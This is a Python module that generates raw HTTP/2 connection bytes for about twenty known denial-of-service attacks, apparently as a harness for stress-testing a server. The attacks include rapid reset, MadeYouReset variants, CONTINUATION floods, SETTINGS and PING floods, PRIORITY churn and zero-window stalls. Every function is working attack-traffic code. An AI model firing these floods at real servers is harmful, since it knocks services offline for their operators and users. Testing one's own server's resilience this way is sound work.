"""Attacks on a server of HTTP/2, each as the bytes of one connection."""

import dataclasses
from collections.abc import Callable, Iterator

from . import frames as f

# RFC 7541, appendix A: GET, POST, the scheme http; then a literal :path and :authority.
GET, POST, HTTP = f.indexed(2), f.indexed(3), f.indexed(6)
ANSWERED, SILENT = b"/nowhere", b"/a/mcp"
CHUNK = 200
Chunks = Iterator[bytes]


@dataclasses.dataclass(frozen=True)
class Attack:
    name: str
    unit: str
    count: int
    few: int
    """What is tried where there is little time."""
    chunks: Callable[[bytes, int], Chunks]
    """Of the authority and the count."""
    settings: tuple[tuple[int, int], ...] = ()
    reads: bool = True
    """What the server sends is read."""

    def __str__(self) -> str:
        return self.name


def _head(method: bytes, path: bytes, authority: bytes) -> bytes:
    return method + HTTP + f.integer(4, 4) + f.string(path) + f.integer(1, 4) + f.string(authority)


def _streams(count: int, of_stream: Callable[[int], bytes], begin: int = 1) -> Chunks:
    """So many streams, a segment for a few of them."""
    for first in range(0, count, CHUNK):
        yield b"".join(of_stream(begin + 2 * number) for number in range(first, min(first + CHUNK, count)))


def _repeated(count: int, frame: bytes) -> Chunks:
    for first in range(0, count, CHUNK):
        yield frame * min(CHUNK, count - first)


def rapid_reset(authority: bytes, count: int) -> Chunks:
    head = _head(GET, SILENT, authority)
    return _streams(count, lambda stream: f.headers(stream, head) + f.reset(stream))


def reset_of_posts(authority: bytes, count: int) -> Chunks:
    head = _head(POST, SILENT, authority)
    return _streams(count, lambda stream: f.headers(stream, head, f.END_HEADERS) + f.reset(stream))


def reset_with_data(authority: bytes, count: int) -> Chunks:
    """HEADERS, RST_STREAM and DATA of a stream in one segment."""
    head = _head(POST, SILENT, authority)
    for number in range(count):
        stream = 2 * number + 1
        yield f.headers(stream, head, f.END_HEADERS) + f.reset(stream) + f.data(stream, b"hello")


def made_reset_by_window(authority: bytes, count: int) -> Chunks:
    head = _head(POST, SILENT, authority)
    return _streams(count, lambda stream: f.headers(stream, head) + f.window_update(stream, 0))


def made_reset_by_data(authority: bytes, count: int) -> Chunks:
    head = _head(POST, SILENT, authority)
    return _streams(count, lambda stream: f.headers(stream, head) + f.data(stream, b"x"))


def made_reset_by_overflow(authority: bytes, count: int) -> Chunks:
    head, largest = _head(POST, SILENT, authority), (1 << 31) - 1
    return _streams(count, lambda stream: f.headers(stream, head) + f.window_update(stream, largest))


def made_reset_by_length(authority: bytes, count: int) -> Chunks:
    head = _head(POST, SILENT, authority) + f.literal(b"content-length", b"1")
    return _streams(count, lambda stream: f.headers(stream, head, f.END_HEADERS) + f.data(stream, b"hello"))


def malformed(authority: bytes, count: int) -> Chunks:
    head = _head(GET, ANSWERED, authority) + f.literal(b"te", b"gzip")
    return _streams(count, lambda stream: f.headers(stream, head))


def continuations(authority: bytes, count: int) -> Chunks:
    """`count` KiB of a header block that does not end."""
    yield f.headers(1, _head(GET, ANSWERED, authority), f.END_STREAM)
    yield from _repeated(count // 16, f.frame(f.CONTINUATION, 0, 1, f.literal(b"x", b"y" * 16_000)))


def empty_continuations(authority: bytes, count: int) -> Chunks:
    yield f.headers(1, _head(GET, ANSWERED, authority), f.END_STREAM)
    yield from _repeated(count, f.frame(f.CONTINUATION, 0, 1))


def empty_data(authority: bytes, count: int) -> Chunks:
    """On a stream whose upstream is silent."""
    yield f.headers(1, _head(POST, SILENT, authority), f.END_HEADERS)
    yield from _repeated(count, f.data(1, b"", 0))


def padding(authority: bytes, count: int) -> Chunks:
    """DATA without content that still takes window."""
    yield f.headers(1, _head(POST, SILENT, authority), f.END_HEADERS)
    yield from _repeated(count, f.data(1, b"\xff" + bytes(255), f.PADDED))


def priorities(authority: bytes, count: int) -> Chunks:
    """Dependencies that change all the time, among streams that are never opened."""
    return _streams(count, lambda stream: f.priority(stream % 2000 | 1, (stream + 2) % 2000 | 1))


def stalled(authority: bytes, count: int) -> Chunks:
    """More answers than there may be streams, and no window for any."""
    head = _head(GET, ANSWERED, authority)
    return _streams(count, lambda stream: f.headers(stream, head))


def table_sizes(authority: bytes, count: int) -> Chunks:
    """The table is made small and large again with each request, so that all entries are thrown away."""
    resize = f.integer(0, 5, 0x20) + f.integer(4096, 5, 0x20)
    head = resize + _head(GET, ANSWERED, authority) + b"".join(f.literal(b"x", b"y", 0x40) for _ in range(60))
    return _streams(count, lambda stream: f.headers(stream, head))


def repeated(frame: bytes) -> Callable[[bytes, int], Chunks]:
    return lambda _, count: _repeated(count, frame)


SETTINGS = f.settings((f.HEADER_TABLE_SIZE, 4096))
NO_WINDOW = ((f.INITIAL_WINDOW_SIZE, 0),)

ATTACKS = [
    Attack("rapid reset", "streams", 100_000, 5_000, rapid_reset),
    Attack("rapid reset of POST", "streams", 100_000, 5_000, reset_of_posts),
    Attack("HEADERS, RST_STREAM and DATA in a segment", "segments", 10_000, 2_000, reset_with_data),
    Attack("MadeYouReset by WINDOW_UPDATE 0", "streams", 20_000, 5_000, made_reset_by_window),
    Attack("MadeYouReset by DATA on a half-closed stream", "streams", 20_000, 5_000, made_reset_by_data),
    Attack("MadeYouReset by a window's overflow", "streams", 20_000, 5_000, made_reset_by_overflow),
    Attack("MadeYouReset by content beyond its length", "streams", 20_000, 5_000, made_reset_by_length),
    Attack("malformed requests", "streams", 100_000, 5_000, malformed),
    Attack("CONTINUATION flood", "KiB", 10_240, 1_024, continuations),
    Attack("CONTINUATION flood, empty", "frames", 100_000, 5_000, empty_continuations),
    Attack("SETTINGS flood", "frames", 100_000, 5_000, repeated(SETTINGS)),
    Attack("SETTINGS flood, unread", "frames", 100_000, 5_000, repeated(SETTINGS), reads=False),
    Attack("PING flood", "frames", 100_000, 5_000, repeated(f.ping())),
    Attack("PING flood, unread", "frames", 100_000, 5_000, repeated(f.ping()), reads=False),
    Attack("empty DATA", "frames", 1_000_000, 20_000, empty_data),
    Attack("DATA of padding alone", "frames", 20_000, 2_000, padding),
    Attack("PRIORITY churn", "frames", 100_000, 5_000, priorities),
    Attack("frames of unknown type", "frames", 100_000, 5_000, repeated(f.frame(0x42, 0, 0, b"x"))),
    Attack("WINDOW_UPDATE flood", "frames", 100_000, 5_000, repeated(f.window_update(0, 1))),
    Attack("table sizes", "streams", 10_000, 1_000, table_sizes),
    Attack("window of 0", "streams", 1_000, 200, stalled, NO_WINDOW),
]
